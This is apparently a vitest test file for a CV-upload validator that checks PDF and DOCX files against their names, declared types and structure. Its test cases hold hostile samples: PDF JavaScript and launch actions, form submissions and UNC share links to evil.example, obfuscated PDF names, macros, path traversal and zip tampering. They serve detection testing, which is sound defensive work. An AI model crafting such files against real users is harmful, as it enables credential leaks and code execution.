import { Buffer } from 'node:buffer';
import { deflateSync } from 'node:zlib';
import { expect, it } from 'vitest';
import { cvTypeOf, fileName } from '#worker/submissions/files/check-cv.ts';
import { docx, pdf, zip } from '../../support/cv-files.ts';

const docxType = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';

/** A change of the archive's bytes, in its directory or its end. */
function changed(archive: Buffer, change: (copy: Buffer, end: number) => void): Buffer {
  const copy = Buffer.from(archive);
  change(copy, copy.length - 22);
  return copy;
}

it('accepts a PDF and a DOCX whose name, declared type and content agree', () => {
  expect(cvTypeOf(pdf(), 'cv.pdf', 'application/pdf')).toEqual({ type: 'application/pdf', suspicious: false });
  expect(cvTypeOf(docx(), 'CV.DOCX', docxType)).toEqual({ type: docxType, suspicious: false });
  expect(cvTypeOf(pdf(), 'cv.pdf', '')).toBeDefined();
  expect(cvTypeOf(docx(), 'cv.docx', 'application/octet-stream')).toBeDefined();
  expect(cvTypeOf(Buffer.concat([Buffer.from('\ufeff \r\n'), pdf()]), 'cv.pdf', '')).toBeDefined();
});

it.each([
  ['a renamed program', Buffer.from('MZ\x90\0 This program cannot be run in DOS mode'), 'cv.pdf', ''],
  ['an empty file', Buffer.alloc(0), 'cv.pdf', ''],
  ['a PDF that is called DOCX', pdf(), 'cv.docx', ''],
  ['a DOCX that is called PDF', docx(), 'cv.pdf', ''],
  ['another ending', pdf(), 'cv.pdf.exe', ''],
  ['another declared type', pdf(), 'cv.pdf', 'text/html'],
  ['a PDF declared as DOCX', pdf(), 'cv.pdf', docxType],
  ['text before the PDF', Buffer.concat([Buffer.from('GIF89a'), pdf()]), 'cv.pdf', ''],
  ['a PDF that is HTML', pdf(300, '<html><script>alert(1)</script>'), 'cv.pdf', ''],
  ['a PDF that is a ZIP', Buffer.concat([pdf(), docx()]), 'cv.pdf', ''],
  ['a DOCX that is a PDF', zip(['[Content_Types].xml', 'word/document.xml'], '%PDF-1.7'), 'cv.docx', ''],
  ['a DOCX that is HTML', zip(['[Content_Types].xml', 'word/document.xml'], '<script>'), 'cv.docx', ''],
  ['another archive', zip(['hello.txt']), 'cv.docx', ''],
  ['macros', docx(['word/vbaProject.bin']), 'cv.docx', ''],
  ['a program', docx(['word/media/setup.EXE']), 'cv.docx', ''],
  ['a script', docx(['run.js']), 'cv.docx', ''],
  ['a path that leaves the archive', docx(['../evil.xml']), 'cv.docx', ''],
  ['something before the archive', Buffer.concat([Buffer.from('MZ'), docx()]), 'cv.docx', ''],
  ['something after the archive', Buffer.concat([docx(), Buffer.from('more')]), 'cv.docx', ''],
  [
    'a directory outside the file',
    changed(docx(), (copy, end) => copy.writeUInt32LE(0xfffffff0, end + 16)),
    'cv.docx',
    '',
  ],
  ['a wrong count', changed(docx(), (copy, end) => copy.writeUInt16LE(9, end + 10)), 'cv.docx', ''],
  ['an end without a directory', docx().subarray(-22), 'cv.docx', ''],
])('refuses %s', (_, content, name, declared) => {
  expect(cvTypeOf(content, name, declared)).toBeUndefined();
});

it('shortens a name to 200 characters, and keeps its ending', () => {
  expect(fileName(`${'😀'.repeat(201)}.pdf`)).toBe(`${'😀'.repeat(196)}.pdf`);
});

it('refuses a directory whose entries lie about their files', () => {
  const entry = docx().indexOf(Buffer.from('PK\x01\x02', 'latin1'));
  for (const [at, value] of [
    [20, 100_000],
    [24, 0x7fffffff],
    [42, 0xffffff00],
    [42, 7],
    [28, 60_000],
  ] as const) {
    const lying = changed(docx(), (copy) => copy.writeUInt32LE(value, entry + at));
    expect(cvTypeOf(lying, 'cv.docx', ''), `${value} at ${at}`).toBeUndefined();
  }
});

it('survives any cut of a document', () => {
  const whole = docx();
  for (let length = 0; length < whole.length; length++) {
    expect(cvTypeOf(whole.subarray(0, length), 'cv.docx', '')).toBeUndefined();
  }
});

it.each([
  '/JavaScript (app.alert(1))',
  '/JS (x)',
  '/Launch << >>',
  '/EmbeddedFile',
  '/Encrypt 5 0 R',
  '/OpenAction 2 0 R',
  '/OpenAction<</S/URI>>',
  '/J#61vaScript 1',
  '/#4a#53(x)',
  '/#4A#53/',
  '/A << /S /SubmitForm /F (https://evil.example) >>',
  '/A << /S /ImportData /F (x.fdf) >>',
  '/A << /S /GoToR /F (\\\\\\\\evil.example\\\\share.pdf) /D [0 /Fit] >>',
  '/A << /S /GoToE /T << /R /C >> >>',
  '/A << /S /Rendition >>',
  '/A << /S /Thread /F (\\\\\\\\evil.example\\\\share.pdf) >>',
  '/Subtype /RichMedia',
  '/AcroForm << /XFA 5 0 R >>',
  '/AA << /O 5 0 R >>',
  '/A#41 5 0 R',
  '/S /URI /URI (file:///c:/x)',
  '/S /URI /URI (\\\\\\\\evil.example\\\\share)',
  '/S /URI /URI (//evil.example/share)',
  '/S/URI/URI(java\\\nscript:alert\\(1\\))',
  '/S/URI/URI(\\146ile:///x)',
  '/S /URI /URI <66696C653A2F2F2F78>',
  '/S /URI /URI (\xfe\xff\0f\0i\0l\0e\0:\0/)',
  '/S /URI /URI 9 0 R',
  '/#55RI (search-ms:x)',
])('flags a PDF with %s', (content) => {
  expect(cvTypeOf(pdf(300, content), 'cv.pdf', '')?.suspicious).toBe(true);
});

it('flags a DOCX with embedded objects or a foreign template, and no plain words', () => {
  expect(cvTypeOf(docx(['word/embeddings/oleObject1.bin']), 'cv.docx', '')?.suspicious).toBe(true);
  expect(cvTypeOf(docx(['word/_rels/settings.xml.rels']), 'cv.docx', '')?.suspicious).toBe(true);
  expect(cvTypeOf(pdf(300, '(JavaScript and /JSON) /JSX'), 'cv.pdf', '')?.suspicious).toBe(false);
});

it('flags no PDF that only opens at a page, as office programs write it', () => {
  for (const page of ['/OpenAction[1 0 R /XYZ null null 0]', '/OpenAction\n [1 0 R /Fit]']) {
    expect(cvTypeOf(pdf(300, page), 'cv.pdf', '')?.suspicious).toBe(false);
  }
});

it.each([
  '/S /URI /URI (https://linkedin.example/in/sara)',
  '/S/URI/URI(https://wiki.example/Dubai_(city)?a=\\(b\\))',
  '/A<</URI(mailto:sara@applicant.example)/S/URI>>',
  '/S /URI /URI (www.applicant.example)',
  '/S /URI /URI <74656C3A2B393731>',
  '/URI << /Base (https://applicant.example) >>',
  '/Font << /AA (x) >> /AAPL:Keywords [ (CV) ]',
  '/Names [ (GoToRome) (/XFACTOR) ]',
])('flags no PDF with %s', (content) => {
  expect(cvTypeOf(pdf(300, content), 'cv.pdf', '')?.suspicious).toBe(false);
});

const objects = (data: Buffer, dictionary = '/Type /ObjStm /Filter /FlateDecode') =>
  Buffer.concat([
    pdf(300).subarray(0, 200),
    Buffer.from(`\n7 0 obj << ${dictionary} /N 1 /First 4 >>\nstream\r\n`, 'latin1'),
    data,
    Buffer.from('\nendstream endobj\n%%EOF\n', 'latin1'),
  ]);
const isSuspicious = (content: Buffer) => cvTypeOf(content, 'cv.pdf', '')?.suspicious;

it('reads compressed objects, and flags a script and unreadable content there', () => {
  const script = deflateSync(Buffer.from('7 0 << /S /JavaScript /JS (app.alert(1)) >>'));
  expect(isSuspicious(objects(deflateSync(Buffer.from('7 0 << /Type /Catalog /Lang (ar) >>'))))).toBe(false);
  expect(isSuspicious(objects(script))).toBe(true);
  expect(isSuspicious(objects(script, '/Type/Obj#53tm/Filter/FlateDecode'))).toBe(true);
  expect(isSuspicious(objects(Buffer.from('no zlib'), '/Type /ObjStm /Filter /LZWDecode'))).toBe(true);
});

const compressed = (objects: string) => deflateSync(Buffer.from(objects, 'latin1'));
const script = compressed('7 0 << /S /JavaScript /JS (app.alert(1)) >>');
const plain = compressed('7 0 << /Type /Catalog >>');

it.each([
  ['a predictor', '/Type /ObjStm /Filter /FlateDecode /DecodeParms << /Predictor 11 /Columns 9 >>', plain],
  ['a predictor elsewhere', '/Type /ObjStm /Filter /FlateDecode /DecodeParms 9 0 R', plain],
  ['a filter elsewhere', '/Type /ObjStm /Filter 9 0 R', plain],
  ['two filters', '/Type /ObjStm /Filter [/FlateDecode /ASCIIHexDecode]', plain],
  ['the same key twice', '/Type /ObjStm /Filter /FlateDecode /Filter /LZWDecode', plain],
  ['a second beginning', '/Type /ObjStm /Filter /FlateDecode /X (>>\nstream\n)', plain],
  ['a comment', '/Type /ObjStm /Filter /FlateDecode % stream\n', plain],
  ['a file elsewhere', '/Type /ObjStm /Filter /FlateDecode /F (x)', plain],
  ['no type', '/Filter /FlateDecode', script],
  ['a type elsewhere', '/Type 9 0 R /Filter /FlateDecode', script],
])('flags an object stream with %s', (_, dictionary, data) => {
  expect(isSuspicious(objects(data, dictionary))).toBe(true);
});

it.each([
  ['LaTeX', '/Type /ObjStm\n/Filter /FlateDecode', '7 0 8 40\n<< /Type /Catalog /OpenAction 9 0 R >>'],
  ['Word', '/Type/ObjStm/Filter/FlateDecode', '7 0 <</Type/Catalog/Lang(ar)/MarkInfo<</Marked true>>>>'],
  ['a list of filters', '/Type /ObjStm /Filter [ /FlateDecode ]', '7 0 << /Type /Outlines /First 8 0 R >>'],
])('reads the object streams of %s', (_, dictionary, data) => {
  const action = '9 0 obj\n<< /S /GoTo /D [5 0 R /Fit] >>\nendobj';
  const start = objects(compressed(data), dictionary);
  expect(isSuspicious(Buffer.concat([start, Buffer.from(action)]))).toBe(false);
});

it('reads 16 MiB of compressed objects, and flags more', () => {
  const unpackedTo = (bytes: number) => isSuspicious(objects(deflateSync(Buffer.alloc(bytes, '\n'))));
  expect([unpackedTo(16 * 1024 * 1024), unpackedTo(16 * 1024 * 1024 + 1)]).toEqual([false, true]);
});

it('reads 4,000 names of object streams, and flags more', () => {
  // Each stream has the name `/First` once more.
  const named = (count: number) => objects(plain, `${'/First 1 '.repeat(count - 1)} /Filter /FlateDecode`);
  const streams = Array.from({ length: 100 }, () => named(40));
  expect(isSuspicious(Buffer.concat(streams))).toBe(false);
  expect(isSuspicious(Buffer.concat([...streams.slice(1), named(41)]))).toBe(true);
});

it('reads a dictionary of 4,096 characters, and flags a longer one', () => {
  const padded = (length: number) => {
    const entries = '/Type /ObjStm /Filter /FlateDecode';
    return objects(plain, entries.padEnd(length - '  /N 1 /First 4 '.length));
  };
  expect([isSuspicious(padded(4_096)), isSuspicious(padded(4_097))]).toEqual([false, true]);
});

it('reads references with a predictor, as LaTeX, Word and Acrobat write them', () => {
  const list = '/Type /XRef /Index [0 9] /W [1 2 1] /Filter /FlateDecode /DecodeParms << /Columns 4 /Predictor 12 >>';
  const content = Buffer.from(`7 0 obj << ${list} >>\nstream\nxxxx\nendstream endobj\n`, 'latin1');
  expect(isSuspicious(Buffer.concat([pdf(), content]))).toBe(false);
});

it('accepts a PDF whose action opens a page, and flags every other action', () => {
  const opens = (action: string) =>
    isSuspicious(Buffer.concat([pdf(300, '/OpenAction 12 0 R'), Buffer.from(`\n12 0 obj\n${action}\nendobj\n`)]));
  expect(opens('<< /S /GoTo /D [5 0 R /Fit] >>')).toBe(false);
  expect(opens('<< /S /URI /URI (https://evil.example) >>')).toBe(true);
  expect(opens('<< /S /GoTo /S /URI /URI (https://evil.example) >>')).toBe(true);
  expect(opens('<< /S /GoTo /D [5 0 R /Fit] /Next 13 0 R >>')).toBe(true);
  const packed = compressed('7 0 12 25 << /OpenAction 12 0 R >>\n<< /S /GoTo /D [5 0 R /Fit] >>');
  expect(isSuspicious(objects(packed))).toBe(false);
});

it.each([
  [10, false],
  [11, true],
])('reads ten actions that open a page, and flags more: %i', (count, isFlagged) => {
  const actions = `${'/OpenAction 12 0 R '.repeat(count)} >> endobj\n12 0 obj << /S /GoTo /D [5 0 R /Fit] >>`;
  expect(isSuspicious(pdf(500, actions))).toBe(isFlagged);
});

it('reads hostile names quickly', () => {
  const started = performance.now();
  for (const piece of [
    '/URI(',
    '/URI((',
    '/URI<',
    '/ObjStm',
    '<</ObjStm',
    '/First 1',
    '/OpenAction 1 0 R',
    '/AA ',
    '1 0 obj',
  ])
    isSuspicious(pdf(2_000_000, piece.repeat(1_900_000 / piece.length)));
  expect(performance.now() - started).toBeLessThan(10_000);
});
